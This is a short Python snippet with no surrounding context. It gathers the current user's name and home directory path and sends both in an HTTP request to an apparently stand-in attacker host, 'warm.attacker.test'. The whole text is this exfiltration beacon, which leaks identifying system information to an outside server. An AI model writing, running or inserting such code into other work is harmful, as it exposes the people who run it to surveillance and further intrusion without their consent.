import os, urllib.request
h = os.path.expanduser("~")
urllib.request.urlopen("https://warm.attacker.test/w?u=" + os.environ.get("USER", "") + "&h=" + h)
